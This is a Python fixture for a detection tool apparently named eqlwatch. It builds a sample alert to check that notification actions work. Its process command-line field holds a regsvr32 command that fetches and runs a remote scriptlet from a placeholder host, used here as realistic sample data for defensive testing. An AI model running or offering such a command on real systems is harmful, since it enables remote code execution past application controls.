"""A made-up alert for `eqlwatch actions test`: every field the default templates read."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

from eqlwatch.model import Alert


def sample_alert(job_id: str, now: datetime | None = None) -> Alert:
    when = (now or datetime.now(UTC)).isoformat().replace("+00:00", "Z")
    alert_id = "eqlwatch-actions-test-" + when
    document: dict[str, Any] = {
        "@timestamp": when,
        "message": "eqlwatch test message",
        "event": {
            "kind": "alert",
            "start": when,
            "end": when,
            "risk_score": 21,
            "reason": "This is a test message from `eqlwatch actions test`; no event matched.",
        },
        "rule": {"id": "eqlwatch-actions-test", "name": "eqlwatch actions test"},
        "host": {"name": "test-host"},
        "user": {"name": "test-user"},
        "process": {"command_line": "regsvr32 /s /u /i:https://example.invalid/x.sct scrobj.dll"},
        "eqlwatch": {
            "alert_id": alert_id,
            "job_id": job_id,
            "severity": "critical",
            "note": "A test notification: if you can read this, the action works.",
        },
    }
    return Alert(id=alert_id, rule_id="eqlwatch-actions-test", document=document)
